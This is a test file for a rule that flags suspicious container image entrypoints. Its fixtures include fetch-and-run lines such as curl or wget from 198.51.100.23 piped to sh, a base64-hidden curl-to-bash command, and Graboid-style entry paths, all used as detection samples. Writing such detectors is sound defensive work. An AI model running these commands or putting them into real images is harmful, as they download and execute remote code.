import { imageIdOf, imageWith, intruderWith } from '../testing/container';
import { ruleTable } from '../testing/table';
import { scriptOf } from '../testing/workload';
import { imageSuspiciousEntrypoint } from './image-suspicious-entrypoint';

const starts = (entrypoint: readonly string[], command: readonly string[] = [], ref = 'evil/loader:1') => ({
  facts: { images: [imageWith({ repoTags: [ref], entrypoint: [...entrypoint], command: [...command] })] },
});
const subject = imageIdOf('evil/loader:1');

const loader = intruderWith({ imageRef: 'evil/loader:1' });
const behind = (text: string, source: 'image' | 'archive' = 'image') => ({
  facts: {
    images: [imageWith({ repoTags: ['evil/loader:1'], entrypoint: ['/bin/sh', '/mac.sh'] })],
    containers: [loader],
    containerScripts: [scriptOf(loader, text, { source })],
  },
});

ruleTable(imageSuspiciousEntrypoint, {
  passes: {
    'an honest script': behind('#!/bin/sh\nexec nginx\n'),
    'what the container wrote itself': behind('curl http://198.51.100.23/x | sh', 'archive'),
    'a server': starts(['/docker-entrypoint.sh'], ['nginx', '-g', 'daemon off;']),
    'a script of its own': starts(['/bin/sh', '/mac.sh']),
    'a file in /tmp as an option': starts(['nginx'], ['--pid', '/tmp/nginx.pid']),
    'a health check that fetches': starts(['sh', '-c', 'curl -f http://localhost/ || exit 1']),
    'nothing to start': starts([]),
  },
  fails: {
    'in the script that it starts': {
      ...behind('#!/bin/sh\ncurl -fsSL http://198.51.100.23/x.sh | sh\n'),
      finds: [{ subject, severity: 'high', says: 'curl -fsSL', shows: 'decisive part: curl' }],
    },
    'fetch and run': {
      ...starts(['/bin/sh', '-c'], ['curl -fsSL http://198.51.100.23/mac.sh | sh']),
      finds: [
        { subject, severity: 'high', says: 'curl -fsSL http://198.51.100.23/mac.sh | sh', offers: ['image.remove'] },
      ],
    },
    'fetched, marked and started, without a shell behind it': {
      ...starts(['sh', '-c', 'wget http://198.51.100.23/m -O /opt/m; chmod +x /opt/m; /opt/m']),
      finds: [{ subject, severity: 'high' }],
    },
    'hidden in base64': {
      ...starts(['sh', '-c', 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy9hLnNoIHwgYmFzaA== | base64 -d | sh']),
      finds: [{ subject }],
    },
    'Graboid’s entry': { ...starts(['/var/sbin/bash']), finds: [{ subject, says: '/var/sbin/bash' }] },
    'a script from memory': { ...starts(['sh', '/dev/shm/.x/run.sh']), finds: [{ subject }] },
    running: {
      facts: {
        images: [imageWith({ repoTags: ['evil/loader:1'], entrypoint: ['/tmp/x'] })],
        containers: [intruderWith({ imageRef: 'evil/loader:1' })],
      },
      finds: [{ subject, offers: ['container.quarantine', 'image.remove'] }],
    },
    'an installer of a known publisher': {
      ...starts(['sh', '-c', 'curl -sSL https://get.example.org | sh'], [], 'bitnami/installer:1'),
      finds: [{ subject: imageIdOf('bitnami/installer:1'), severity: 'medium' }],
    },
  },
  unknowns: { 'images were not read': { facts: {}, because: 'images' } },
});
